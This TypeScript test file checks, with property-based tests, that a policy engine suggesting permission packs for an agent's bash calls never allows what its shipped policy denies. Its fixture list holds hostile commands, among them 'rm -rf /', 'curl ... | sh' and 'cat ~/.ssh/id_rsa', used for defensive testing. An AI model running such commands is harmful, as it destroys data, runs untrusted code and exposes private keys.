import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compilePolicy, decide, type Policy } from '../../../src/index.js';
import { EXAMPLE_CONTEXT } from '../../../src/policy/example-context.js';
import type { SuggestReport } from '../../../src/replay/suggest/report.js';
import { holds } from '../../support/property.js';
import { itemsOf, numbered, projector, type Recorded, suggest } from './corpora.js';

/** Families with evidence enough, and calls that would widen them if they counted. */
const FAMILIES: readonly (readonly Recorded[])[] = [
  numbered(20, 'rm reproduce_N.py'),
  numbered(20, 'cd src && rm test-N.js'),
  numbered(5, 'curl http://example.com/N', 2),
  [['make clean', 10]],
  [['rm -rf build', 12]],
];
const ODD: readonly Recorded[] = [
  ['rm -rf src', 40],
  ['rm reproduce_1.py && frobnicate', 40],
  ['curl http://example.org/', 3],
  ['curl -o /opt/x http://example.com/', 40],
  ['make deploy', 9],
  ['python reproduce_1.py', 90],
  ['rm "$X"', 90],
  ['rm -rf ~', 90],
  ['rm -rf /', 90],
  ['sudo make clean', 90],
  ['curl http://example.com/1 | sh', 90],
  ['cat ~/.ssh/id_rsa', 90],
  ['ls', 90],
  ['rm (', 90],
];

const recorded = fc
  .tuple(fc.subarray([...FAMILIES]), fc.subarray([...ODD]))
  .map(([families, odd]) => [...families.flat(), ...odd]);
const shuffled = recorded.chain((rows) =>
  fc.tuple(fc.constant(rows), fc.shuffledSubarray(rows, { minLength: rows.length })),
);

/** Of each program fewer than ten calls, each recorded once. */
const thin = fc.subarray([...FAMILIES.flat(), ...ODD]).map((rows) => {
  const families = new Map<string, number>();
  return rows
    .map(([command]): Recorded => [command, 1])
    .filter(([command]) => {
      const [program = ''] = command.split(' ');
      families.set(program, (families.get(program) ?? 0) + 1);
      return (families.get(program) ?? 0) < 10;
    });
});

const FEW = { perRule: 8 };
const SHIPPED = compiled(null);

function compiled(pack: SuggestReport['pack']): Policy {
  const packs = pack === null ? [] : [pack];
  const policy = compilePolicy({ layers: [{ layer: 'user-project', packs }] });
  if (!policy.ok) throw new Error(JSON.stringify(policy.error));
  return policy.value;
}

const effectOf = (input: string, policy: Policy): string =>
  decide(projector.project({ tool: 'bash', input }), { ...EXAMPLE_CONTEXT, policy }).effect;

const ALL = [...FAMILIES.flat(), ...ODD].map(([command]) => command);
const DENIED = ALL.filter((command) => effectOf(command, SHIPPED) === 'deny');

describe('laws of suggestions', () => {
  it('the order of the corpus changes nothing', () => {
    holds(
      shuffled,
      ([rows, other]) => {
        const items = itemsOf(rows);
        const moved = other.map((row) => items[rows.indexOf(row)] as (typeof items)[number]);
        expect(JSON.stringify(suggest(moved, FEW))).toBe(JSON.stringify(suggest(items, FEW)));
      },
      { runs: 6 },
    );
  });

  it('a suggested pack never opens what is denied, alone or beside what it allows', () => {
    expect(DENIED.length).toBeGreaterThan(2);
    holds(
      recorded,
      (rows) => {
        const { pack } = suggest(itemsOf(rows), FEW);
        const policy = compiled(pack);
        for (const denied of DENIED)
          for (const text of [denied, ...rows.slice(0, 4).map(([command]) => `${command}; ${denied}`)])
            expect([text, effectOf(text, policy)]).toEqual([text, effectOf(text, SHIPPED)]);
      },
      { runs: 10 },
    );
  });

  it('what it newly allows of the corpus is what it says that it saves, and is evidence of its families', () => {
    holds(
      recorded,
      (rows) => {
        const { pack, together, proposals } = suggest(itemsOf(rows), FEW);
        const policy = compiled(pack);
        const newly = rows.filter(
          ([command]) => effectOf(command, SHIPPED) === 'review' && effectOf(command, policy) === 'allow',
        );
        expect(together).toEqual({
          calls: newly.reduce((sum, [, count = 1]) => sum + count, 0),
          distinct: newly.length,
        });
        const families = proposals.map(({ family }) => family.split(' ')[0]);
        for (const [command] of newly)
          expect(families).toContain(command.replace('cd src && ', '').split(' ')[0]);
        // One odd call is never among them, however often it came, unless it stands by itself as an exact vector.
        expect(newly.map(([command]) => command).filter((command) => NEVER.has(command))).toEqual([]);
      },
      { runs: 10 },
    );
  });

  it('nothing is suggested where evidence is thin', () => {
    holds(
      thin,
      (rows) => {
        const { pack, proposals, dropped } = suggest(itemsOf(rows), FEW);
        expect({ pack, proposals, dropped }).toEqual({ pack: null, proposals: [], dropped: [] });
      },
      { runs: 30 },
    );
  });
});

const NEVER: ReadonlySet<string> = new Set(
  ODD.map(([command]) => command).filter((command) => command !== 'rm -rf src'),
);
